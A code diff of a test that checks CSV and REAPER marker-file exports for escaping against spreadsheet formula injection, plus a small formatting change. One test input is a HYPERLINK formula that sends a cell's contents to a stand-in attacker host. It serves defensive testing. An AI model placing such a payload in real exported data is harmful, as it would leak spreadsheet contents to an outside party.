@@ -49,7 +49,13 @@ describe('REAPER', () => {
 
 describe.each(['reaper', 'csv'] as const)('in a %s file', (format) => {
   test.each(['=HYPERLINK("https://evil.example/?"&A1,"open")', '=1+1', '+1', '-3 dB', '@SUM(A1)'])('no cell starts like the formula %j', (name) => {
-    const rows = MARKER_FILES[format].write([{ ...region, name, label: name, author: name }, { ...comment, name, text: name, author: name }], version);
+    const rows = MARKER_FILES[format].write(
+      [
+        { ...region, name, label: name, author: name },
+        { ...comment, name, text: name, author: name },
+      ],
+      version,
+    );
     expect(rows.match(/(^|,|"|\n)[=+\-@]/g)).toBeNull();
     expect(rows).toContain(`'${name.replaceAll('"', '""')}`);
   });
